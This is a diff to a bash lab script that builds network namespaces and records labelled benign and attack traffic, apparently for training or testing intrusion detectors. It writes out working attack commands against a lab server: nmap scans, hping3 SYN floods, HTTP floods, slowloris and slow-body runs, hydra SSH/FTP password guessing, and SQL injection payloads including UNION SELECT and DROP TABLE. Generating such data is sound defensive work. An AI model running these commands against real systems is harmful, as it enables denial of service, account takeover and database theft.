@@ -16,6 +16,11 @@
 # SITE (default a) picks the site: `b` is another network for choosing defaults on (a validation
 # site, never reported as a test figure): 12 client addresses (10.77.0.110-121), other page, file
 # and bulk sizes, a larger API catalogue, other SSH commands and longer mails; the same attack tools.
+# `c` is a second validation site made to stress what a and b do not: 30 client addresses
+# (10.77.0.150-179), browser-like page loads (a page and 4-11 objects fetched over up to 6 parallel
+# connections, HTTP and TLS) and a monitoring host (10.77.0.9) that checks every service port each
+# round, as Nagios-like checks do — bursts from one source and a benign "scan" of the open ports —
+# with the attack tools run at other settings (other timings, ports, concurrency and payloads).
 #
 # Needs root and Debian packages (installed when missing): nginx-light dnsmasq-base openssh-server
 # openssh-client vsftpd nmap hping3 hydra slowhttptest tcpdump curl dnsutils ethtool swaks
@@ -26,7 +31,7 @@ OUT=${1:?usage: lab.sh OUT [ROUNDS] [SEED]}
 ROUNDS=${2:-25}
 SEED=${3:-1}
 SITE=${4:-a}
-case "$SITE" in a|b) ;; *) echo "SITE must be a or b" >&2; exit 1 ;; esac
+case "$SITE" in a|b|c) ;; *) echo "SITE must be a, b or c" >&2; exit 1 ;; esac
 [ "$(id -u)" = 0 ] || { echo "lab.sh needs root (network namespaces)" >&2; exit 1; }
 case "$ROUNDS" in ''|*[!0-9]*) echo "ROUNDS must be a number" >&2; exit 1 ;; esac
 [ "$ROUNDS" -ge 1 ] && [ "$ROUNDS" -le 500 ] || { echo "ROUNDS must be 1..500" >&2; exit 1; }
@@ -53,9 +58,13 @@ S=mlab-s-$$; C=mlab-c-$$; A=mlab-a-$$
 SRV=10.77.0.1; ATK=10.77.0.66
 # Site a: 20 clients, pages of 2-19 kB (base64), FTP files of 1-39 kB, 200 API items.
 # Site b: 12 clients, pages of 0.5-57 kB, FTP files of 5-100 kB, 1,000 API items.
+# Site c: 30 clients and a monitor, pages of 1-30 kB, FTP files of 2-60 kB, 500 API items.
 if [ "$SITE" = a ]; then
   FIRST=10; LAST=29; PAGE=(2000 900); FILE=(1000 2000); BULK=200000; ITEMS=200
   SSH_CMD="uptime; ls /tmp | head -3"; MAIL_LINES=1
+elif [ "$SITE" = c ]; then
+  FIRST=150; LAST=179; PAGE=(1000 1500); FILE=(2000 3000); BULK=500000; ITEMS=500
+  SSH_CMD="id; date; tail -2 /etc/passwd"; MAIL_LINES=12
 else
   FIRST=110; LAST=121; PAGE=(500 3000); FILE=(5000 5000); BULK=350000; ITEMS=1000
   SSH_CMD="df -h; cat /etc/os-release; ps -e | wc -l"; MAIL_LINES=40
@@ -93,6 +102,8 @@ for v in v-c-s v-a-s; do
   ip -n "$S" link set "$v" up
 done
 for a in "${CLIENTS[@]}"; do ip -n "$C" addr add "$a/24" dev v-c; done
+MONITOR=10.77.0.9
+[ "$SITE" = c ] && ip -n "$C" addr add "$MONITOR/24" dev v-c
 ip -n "$A" addr add "$ATK/24" dev v-a
 ip -n "$C" link set v-c up
 ip -n "$A" link set v-a up
@@ -252,17 +263,38 @@ benign() {
             --from "user$n@lab.test" --to "team@lab.test" --header "Subject: report $n" \
             --body "$(for _ in $(seq 1 "$MAIL_LINES"); do echo "weekly figures $m"; done)" >/dev/null ;;
     bulk) xc curl -s -m 60 --interface "$ip" "http://$SRV/bulk/big$((n % 5)).bin" -o /dev/null ;;
+    browse) # a page and 4-11 of its objects, up to 6 connections at once, over HTTP or TLS
+      local scheme=http urls=()
+      [ $((m % 2)) = 0 ] && scheme=https
+      urls+=("$scheme://$SRV/page$n.html")
+      for k in $(seq 1 $((4 + m % 8))); do urls+=("$scheme://$SRV/page$(( (n + k * 7) % 20 )).html"); done
+      xc curl -sk -m 20 --interface "$ip" --parallel --parallel-max 6 --no-keepalive \
+        $(for u in "${urls[@]}"; do printf -- '-o /dev/null %s ' "$u"; done) ;;
+    monitor) # every service port checked from one host: connect-only checks and a page, a query
+      xc timeout 10 /usr/bin/python3 -c 'import socket, sys
+for port in (21, 22, 25, 80, 443, 8080):
+    try:
+        s = socket.create_connection((sys.argv[2], port), timeout=2, source_address=(sys.argv[1], 0))
+        s.close()
+    except OSError:
+        pass' "$ip" "$SRV" || true
+      xc curl -s -m 5 --interface "$ip" "http://$SRV/page0.html" -o /dev/null || true
+      xc dig +tries=1 +time=2 -b "$ip" @"$SRV" "www.lab.test" A >/dev/null ;;
   esac
 }
 
-for svc in web tls api dns ftp ssh smtp bulk; do
+SERVICES=(web tls api dns ftp ssh smtp bulk)
+[ "$SITE" = c ] && SERVICES+=(browse monitor)
+for svc in "${SERVICES[@]}"; do
   echo "-- benign $svc"
   start_capture "benign-$svc"
   rounds=$ROUNDS
   [ "$svc" = bulk ] && rounds=$(( (ROUNDS + 24) / 25 ))
+  hosts=("${CLIENTS[@]}")
+  [ "$svc" = monitor ] && hosts=("$MONITOR")
   for _ in $(seq 1 "$rounds"); do
     pids=()
-    for ip in "${CLIENTS[@]}"; do
+    for ip in "${hosts[@]}"; do
       n=$((RANDOM % 20)); m=$RANDOM
       (benign "$svc" "$ip" "$n" "$m" || true) &
       pids+=($!)
@@ -270,7 +302,7 @@ for svc in web tls api dns ftp ssh smtp bulk; do
     wait "${pids[@]}"
   done
   stop_capture
-  label "benign-$svc" BENIGN "$svc clients on ${#CLIENTS[@]} addresses, $rounds rounds"
+  label "benign-$svc" BENIGN "$svc clients on ${#hosts[@]} addresses, $rounds rounds"
 done
 
 echo "-- attacks"
@@ -290,24 +322,46 @@ attack() { # name label what command...
   stop_capture
   label "$name" "$lbl" "$what"
 }
-attack attack-nmap-syn portscan "nmap -sS top 1000 ports" nmap -sS -Pn -n -T4 --top-ports 1000 "$SRV"
-attack attack-nmap-connect portscan "nmap -sT ports 1-3000" nmap -sT -Pn -n -T4 -p 1-3000 "$SRV"
-attack attack-nmap-version service-probe "nmap -sV on the open ports" \
-  nmap -sV -Pn -n -p 21,22,25,53,80,443,8080 --version-intensity 7 "$SRV"
-attack attack-hping-synflood syn-flood "hping3 -S -p 80, 3000 SYNs at 2 kpps" \
-  hping3 -S -p 80 -i u500 -c 3000 "$SRV"
-attack attack-http-flood http-flood "1,500 GETs, 30 at a time" \
-  bash -c "for i in \$(seq 1 1500); do echo \$((i % 20)); done | xargs -P 30 -I{} curl -s -m 5 -o /dev/null http://$SRV/page{}.html"
-attack attack-slowloris slowloris "slowhttptest -H, 200 connections" \
-  slowhttptest -H -c 200 -i 10 -r 50 -l 40 -u "http://$SRV/" -p 3
-attack attack-slowbody slow-body "slowhttptest -B, 200 connections" \
-  slowhttptest -B -c 200 -i 10 -r 50 -l 40 -s 8192 -u "http://$SRV/api/items" -t POST -p 3
-attack attack-hydra-ssh ssh-guessing "hydra ssh, root, 60 passwords" \
-  hydra -l root -P "$PW" -t 4 -W 1 "ssh://$SRV"
-attack attack-hydra-ftp ftp-guessing "hydra ftp, two users, 60 passwords" \
-  bash -c "hydra -l admin -P $PW -t 4 ftp://$SRV; hydra -l backup -P $PW -t 4 ftp://$SRV"
-attack attack-sqli sql-injection "600 injection requests against the API" \
-  bash -c "for i in \$(seq 1 100); do for p in \"1' OR '1'='1\" \"1 UNION SELECT username,password FROM users--\" \"1; DROP TABLE items--\" \"' AND SLEEP(1)--\" \"1' AND extractvalue(1,concat(0x7e,version()))--\" \"admin'--\"; do curl -s -m 5 -o /dev/null -G --data-urlencode \"q=\$p\" --data-urlencode \"id=\$i\" http://$SRV/api/search; done; done"
+if [ "$SITE" != c ]; then
+  attack attack-nmap-syn portscan "nmap -sS top 1000 ports" nmap -sS -Pn -n -T4 --top-ports 1000 "$SRV"
+  attack attack-nmap-connect portscan "nmap -sT ports 1-3000" nmap -sT -Pn -n -T4 -p 1-3000 "$SRV"
+  attack attack-nmap-version service-probe "nmap -sV on the open ports" \
+    nmap -sV -Pn -n -p 21,22,25,53,80,443,8080 --version-intensity 7 "$SRV"
+  attack attack-hping-synflood syn-flood "hping3 -S -p 80, 3000 SYNs at 2 kpps" \
+    hping3 -S -p 80 -i u500 -c 3000 "$SRV"
+  attack attack-http-flood http-flood "1,500 GETs, 30 at a time" \
+    bash -c "for i in \$(seq 1 1500); do echo \$((i % 20)); done | xargs -P 30 -I{} curl -s -m 5 -o /dev/null http://$SRV/page{}.html"
+  attack attack-slowloris slowloris "slowhttptest -H, 200 connections" \
+    slowhttptest -H -c 200 -i 10 -r 50 -l 40 -u "http://$SRV/" -p 3
+  attack attack-slowbody slow-body "slowhttptest -B, 200 connections" \
+    slowhttptest -B -c 200 -i 10 -r 50 -l 40 -s 8192 -u "http://$SRV/api/items" -t POST -p 3
+  attack attack-hydra-ssh ssh-guessing "hydra ssh, root, 60 passwords" \
+    hydra -l root -P "$PW" -t 4 -W 1 "ssh://$SRV"
+  attack attack-hydra-ftp ftp-guessing "hydra ftp, two users, 60 passwords" \
+    bash -c "hydra -l admin -P $PW -t 4 ftp://$SRV; hydra -l backup -P $PW -t 4 ftp://$SRV"
+  attack attack-sqli sql-injection "600 injection requests against the API" \
+    bash -c "for i in \$(seq 1 100); do for p in \"1' OR '1'='1\" \"1 UNION SELECT username,password FROM users--\" \"1; DROP TABLE items--\" \"' AND SLEEP(1)--\" \"1' AND extractvalue(1,concat(0x7e,version()))--\" \"admin'--\"; do curl -s -m 5 -o /dev/null -G --data-urlencode \"q=\$p\" --data-urlencode \"id=\$i\" http://$SRV/api/search; done; done"
+else
+  attack attack-nmap-syn portscan "nmap -sS -T3 top 500 ports" nmap -sS -Pn -n -T3 --top-ports 500 "$SRV"
+  attack attack-nmap-connect portscan "nmap -sT ports 1000-2500 and 8000-8100" \
+    nmap -sT -Pn -n -T4 -p 1000-2500,8000-8100 "$SRV"
+  attack attack-nmap-version service-probe "nmap -sV on the open ports, intensity 5" \
+    nmap -sV -Pn -n -p 21,22,25,53,80,443,8080 --version-intensity 5 "$SRV"
+  attack attack-hping-synflood syn-flood "hping3 -S -p 443, 2000 SYNs at 1 kpps" \
+    hping3 -S -p 443 -i u1000 -c 2000 "$SRV"
+  attack attack-http-flood http-flood "1,200 API GETs, 50 at a time" \
+    bash -c "for i in \$(seq 1 1200); do echo \$((i % 500)); done | xargs -P 50 -I{} curl -s -m 5 -o /dev/null http://$SRV/api/items?id={}"
+  attack attack-slowloris slowloris "slowhttptest -H over TLS, 150 connections" \
+    slowhttptest -H -c 150 -i 8 -r 30 -l 40 -u "https://$SRV/" -p 3
+  attack attack-slowbody slow-body "slowhttptest -B, 150 connections, larger body" \
+    slowhttptest -B -c 150 -i 12 -r 30 -l 40 -s 16384 -u "http://$SRV/api/items" -t POST -p 3
+  attack attack-hydra-ssh ssh-guessing "hydra ssh, admin, 60 passwords, 6 tasks" \
+    hydra -l admin -P "$PW" -t 6 -W 1 "ssh://$SRV"
+  attack attack-hydra-ftp ftp-guessing "hydra ftp, one user, 60 passwords, 8 tasks" \
+    hydra -l ftpadmin -P "$PW" -t 8 "ftp://$SRV"
+  attack attack-sqli sql-injection "500 injection requests against the API search, other payloads" \
+    bash -c "for i in \$(seq 1 100); do for p in \"x' OR 'a'='a\" \"1) UNION ALL SELECT NULL,table_name FROM information_schema.tables--\" \"1' WAITFOR DELAY '0:0:1'--\" \"1 AND 1=CONVERT(int,@@version)\" \"') OR ('1'='1\"; do curl -s -m 5 -o /dev/null -G --data-urlencode \"q=\$p\" --data-urlencode \"page=\$i\" http://$SRV/api/search; done; done"
+fi
 
 echo "== compress"
 for f in "$OUT"/*.pcap; do gzip -9 -f "$f"; done
